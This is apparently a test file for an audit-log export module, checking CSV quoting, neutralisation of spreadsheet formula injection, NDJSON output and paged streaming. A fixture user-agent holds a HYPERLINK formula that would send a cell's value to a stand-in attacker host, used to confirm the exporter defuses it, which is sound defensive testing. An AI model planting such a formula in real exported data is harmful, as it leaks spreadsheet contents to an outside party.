import type { AuditEntry } from '@app/sessions';
import { AUDIT_CSV_HEADER, auditCsvRecord, auditExportFilename, auditExportStream, auditNdjsonLine, csvField } from './audit-export';

const ENTRY: AuditEntry = {
  eventId: '01900000-0000-7000-8000-000000000001',
  correlationId: '01900000-0000-7000-8000-000000000002',
  action: 'session.revoke',
  outcome: 'succeeded',
  occurredAt: new Date('2026-12-03T10:15:00.123Z'),
  userId: '01900000-0000-7000-8000-000000000003',
  actorType: 'admin',
  actorId: '01900000-0000-7000-8000-000000000004',
  actorName: null,
  sessionId: null,
  reason: 'stolen laptop, "urgent"',
  ipAddress: '203.0.113.7',
  userAgent: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  requestId: 'req-1',
  details: { revokedCount: 2, note: 'a,b' },
};

/** RFC 4180 read back: records of fields, quotes undone. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i += 1;
    } else if (quoted) {
      if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else {
      field += c;
    }
  }
  return records;
}

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['carriage\rreturn', '"carriage\rreturn"'],
  ])('quotes %j per RFC 4180 only when it must', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])('neutralises a cell a spreadsheet would run as a formula: %j', (value) => {
    const field = csvField(value);
    expect(parseCsv(`${field}\r\n`)[0][0]).toBe(`'${value}`);
  });

  it('leaves an empty cell for null and an apostrophe-free one for text in the middle', () => {
    expect(csvField(null)).toBe('');
    expect(csvField('a=b')).toBe('a=b');
  });
});

describe('audit export lines', () => {
  it('writes a fixed header and every field of an entry, details as JSON, readable back as the entry', () => {
    const [header] = parseCsv(AUDIT_CSV_HEADER);
    expect(header).toEqual([
      'eventId',
      'correlationId',
      'occurredAt',
      'action',
      'outcome',
      'userId',
      'actorType',
      'actorId',
      'actorName',
      'sessionId',
      'reason',
      'ipAddress',
      'userAgent',
      'requestId',
      'details',
    ]);
    const [row] = parseCsv(auditCsvRecord(ENTRY));
    const record = Object.fromEntries(header.map((column, i) => [column, row[i]]));
    expect(record).toEqual({
      ...ENTRY,
      occurredAt: '2026-12-03T10:15:00.123Z',
      actorName: '',
      sessionId: '',
      userAgent: `'${ENTRY.userAgent}`,
      details: JSON.stringify(ENTRY.details),
    });
  });

  it('writes NDJSON as the API answers: one JSON object a line', () => {
    const line = auditNdjsonLine({ ...ENTRY, reason: 'line\nbreak' });
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toContain('\n');
    expect(JSON.parse(line)).toEqual({ ...ENTRY, reason: 'line\nbreak', occurredAt: '2026-12-03T10:15:00.123Z' });
  });

  it('names the file after the instant, without colons', () => {
    expect(auditExportFilename('csv', new Date('2026-12-03T10:15:00.123Z'))).toBe('audit-20261203T101500Z.csv');
  });
});

describe('auditExportStream', () => {
  async function* pagesOf(pages: AuditEntry[][], pulled: number[]): AsyncGenerator<AuditEntry[], void, undefined> {
    for (const [i, page] of pages.entries()) {
      pulled.push(i);
      yield page;
    }
  }

  it('asks for a page only as the reader pulls', async () => {
    const pulled: number[] = [];
    const big = Array.from({ length: 300 }, (_, i) => ({ ...ENTRY, eventId: `e-${i}` }));
    const stream = await auditExportStream('ndjson', pagesOf([big, big, big, big, big], pulled));
    // Read before the answer starts, so a database failure is still a 503.
    expect(pulled).toEqual([0]);
    const first = await new Promise<Buffer>((resolve) => stream.once('data', resolve));
    stream.pause();
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(first.length).toBeGreaterThan(0);
    expect(pulled.length).toBeLessThan(5);
    stream.destroy();
  });

  it('writes the header alone for no entries', async () => {
    const stream = await auditExportStream('csv', pagesOf([], []));
    const chunks: Buffer[] = [];
    for await (const chunk of stream) chunks.push(chunk as Buffer);
    expect(Buffer.concat(chunks).toString()).toBe(AUDIT_CSV_HEADER);
  });
});
